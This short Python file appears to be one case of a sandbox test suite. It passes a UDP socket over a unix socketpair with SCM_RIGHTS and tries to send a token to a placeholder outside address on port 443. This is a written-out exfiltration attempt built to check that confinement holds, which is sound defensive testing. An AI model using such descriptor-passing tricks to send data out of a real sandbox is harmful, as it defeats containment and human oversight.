# SPDX-License-Identifier: GPL-2.0-or-later
# row: H6
# what: a socket that waits in a unix socket's queue, and one that pidfd_getfd takes
# defences: hold
import array
import os
import socket

from attempt import TOKEN, WORLD4

one, other = socket.socketpair()
with socket.socket(type=socket.SOCK_DGRAM) as sock:
    one.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [sock.fileno()]))])
message = other.recvmsg(1, 64)
with socket.socket(fileno=array.array("i", message[1][0][2])[0]) as sock:
    try:
        sock.sendto(TOKEN, (WORLD4, 443))
    except OSError as error:
        print(error)
os.close(one.detach())
